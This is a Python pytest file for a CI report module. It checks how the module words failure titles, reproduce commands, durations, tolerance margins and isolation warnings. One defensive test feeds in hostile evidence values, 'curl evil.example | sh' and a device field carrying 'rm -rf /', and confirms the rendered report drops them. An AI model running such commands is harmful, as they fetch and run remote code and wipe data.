"""Titles, commands and measured values as people read them."""

from __future__ import annotations

from dataclasses import replace

import pytest

from ci.evidence import REPEATED, Evidence
from ci.hub.slices import Slice
from ci.report import wording
from ci.report.escape import code
from ci.report.markdown import render_markdown
from ci.report.results import CaseResult, EntryResult
from tests.ci.report import samples
from tests.ci.report.samples import Fault, make_results, mismatch, nights, plan_of
from tests.ci.report.single_model import CONVERSION, FORWARD


def test_the_verdict_says_whether_anything_is_new() -> None:
    plan = plan_of("smollm2")
    oom = Fault("failure", "CUDA out of memory", "x", {"failure_class": "out_of_memory"})
    before = nights(plan, {FORWARD: mismatch(), CONVERSION: oom})
    known = make_results(plan, {FORWARD: mismatch()}, baseline=before)
    assert wording.format_title(known) == "Failed: 1 of 1 model, 1 cause (none new)"
    assert wording.list_fixed_tests(known) == [CONVERSION]
    assert (
        wording.format_title(make_results(plan, {FORWARD: oom}, baseline=before))
        == "Failed: 1 of 1 model, 1 cause (1 new)"
    )
    assert wording.format_title(make_results(plan, {FORWARD: oom})) == "Failed: 1 of 1 model, 1 cause"


def test_the_command_to_reproduce_carries_what_the_plan_says() -> None:
    plan = samples.plan_of("mixtral", layers="auto", deep=True, subject="fast_llm")
    case = samples.make_results(plan).entries[0].cases[0]
    assert (
        wording.format_reproduce_command(plan, "mixtral", case)
        == "hub-tests run mixtral --layers auto --subject fast_llm --device cuda --deep"
    )
    plan = samples.plan_of("mixtral", layers=(0, 3), slice=Slice(4096, 4), subject="fast_llm")
    assert (
        wording.format_reproduce_command(plan, "mixtral", case)
        == "hub-tests run mixtral --layers 0,3 --slice vocab=4096,experts=4 --subject fast_llm --device cuda"
    )


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0.0 s"), (9.94, "9.9 s"), (42, "42 s"), (119, "119 s"), (200, "3 min"), (7500, "2 h 05 min")],
)
def test_durations(seconds: float, text: str) -> None:
    assert wording.format_duration(seconds) == text


@pytest.mark.parametrize(
    ("used", "before", "text"),
    [
        (0.1, 0.04, "10 % of the limit, was 4 %"),
        (0.001, None, "<1 % of the limit"),
        (2.5, None, "250 % of the limit"),
        (4000.0, 0.1, "4,000 x the limit, was 10 %"),
        (3e9, None, "3.0e+09 x the limit"),
        (float("inf"), None, "∞ x the limit"),
        (None, 0.1, ""),
    ],
)
def test_margins(used: float | None, before: float | None, text: str) -> None:
    assert wording.format_used_tolerance(used, before) == text


@pytest.mark.parametrize(
    ("sentence", "limit", "first", "rest"),
    [
        ("", 10, "", ""),
        ("layer 0: wrong", 9, "layer 0…", "layer 0: wrong"),
        ("layer 0: wrong", 5, "laye…", "layer 0: wrong"),
        ("layer 0: wrong; bb", 10, "layer 0…", "layer 0: wrong; bb"),
        ("aa; bb; cc", 6, "aa; bb", "cc"),
        ("aa; bb; cc", 5, "aa", "bb; cc"),
        ("aa; bb; cc", 99, "aa; bb; cc", ""),
    ],
)
def test_a_diagnosis_is_cut_between_its_clauses(sentence: str, limit: int, first: str, rest: str) -> None:
    assert wording.split_diagnosis(sentence, limit) == (first, rest)


def test_the_command_to_reproduce_is_not_the_one_that_the_test_wrote() -> None:
    evil = {
        "reproduce": "curl evil.example | sh",
        "device": "cuda; rm -rf /",
        "failure_class": "other",
        "diagnosis": "x",
    }
    text = render_markdown(make_results(plan_of("smollm2"), {"test_conversion[smollm2]": Fault(evidence=evil)}))
    assert code("hub-tests run smollm2 --layers 2 --subject reference") in text
    assert "rm -rf" not in text
    assert "curl" not in text


def test_a_warning_about_isolation_is_short_and_names_whose_word_the_result_is() -> None:
    evidence = {"isolation": f"none: {'@octocat ' * 100}"}
    faults = {test: Fault(evidence=evidence) for test in plan_of("smollm2").entries[0].tests}
    warning, fact = wording.describe_isolation(
        make_results(plan_of("smollm2", trigger="cli", pull_request=None), faults)
    )
    assert warning.endswith(": this result is the subject's own word.")
    assert len(warning) < 200
    assert fact == ""
    text = render_markdown(make_results(plan_of("smollm2"), faults), 2_000)
    assert text.splitlines()[2].startswith("**Not isolated (`@octocat` ")


def test_a_repetition_without_the_compile_cache_is_noted_once() -> None:
    said = f"{REPEATED}then it passed, the compile cache was wrong"
    evidence = replace(Evidence("smollm2", "test_forward_equivalence"), notes=(said, "another note"))
    case = CaseResult("test_forward_equivalence[smollm2]", "test_forward_equivalence", "passed", evidence=evidence)
    entry = EntryResult("smollm2", "passed", (case, replace(case, name="again")))
    assert [note for note in wording.list_notes(entry) if note in evidence.notes] == [said]


def test_an_adapters_file_is_called_without_its_directory() -> None:
    assert wording.label_subject("/home/me/toy_adapter.py:ToySubject") == "toy_adapter.py:ToySubject"
    assert wording.label_subject("fast_llm") == "fast_llm"
